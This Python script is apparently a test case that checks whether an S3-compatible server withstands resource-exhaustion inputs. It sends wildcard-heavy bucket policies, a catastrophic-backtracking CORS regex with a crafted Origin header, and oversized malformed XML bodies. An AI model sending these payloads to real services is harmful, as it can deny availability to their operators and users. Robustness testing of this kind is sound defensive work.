"""Writes policies, bodies and origins of which a backtracking matcher would never come to an end.

kind: exhaust
says: answers to slow patterns: 7
seconds: 20
strong: holds
partial: holds
none: holds
"""

import json

import boto3

STARS = "*a" * 12 + "*b"


def attack():
    s3 = boto3.client("s3")
    answers = []

    def ask(method, **params):
        try:
            method(**params)
        except s3.exceptions.ClientError as error:
            answers.append(error)
        else:
            answers.append("done")

    ask(s3.create_bucket, Bucket="slow-bucket")
    resources = [f"arn:aws:s3:::slow-bucket/{STARS}{n}" for n in range(100)]
    statement = {"Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": resources}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    ask(s3.put_bucket_policy, Bucket="slow-bucket", Policy=policy)
    ask(s3.put_object, Bucket="slow-bucket", Key="a" * 900, Body=b"x")
    rule = {"AllowedOrigins": ["(a+)+$"], "AllowedMethods": ["GET"]}
    ask(s3.put_bucket_cors, Bucket="slow-bucket", CORSConfiguration={"CORSRules": [rule]})
    s3.meta.events.register("before-sign.s3.*", lambda request, **_: request.headers.add_header("Origin", "a" * 99 + "b"))
    ask(s3.list_objects_v2, Bucket="slow-bucket")

    for body in (b"<LocationConstraint>" + b" " * 3000 + b"x<", b"<LocationConstraint" * 100_000):
        def swap(request, body=body, **_):
            request.data = body

        s3.meta.events.register("before-sign.s3.CreateBucket", swap, unique_id="body")
        ask(s3.create_bucket, Bucket="slow-bucket-2")
        s3.meta.events.unregister("before-sign.s3.CreateBucket", unique_id="body")
    print("answers to slow patterns:", len(answers))
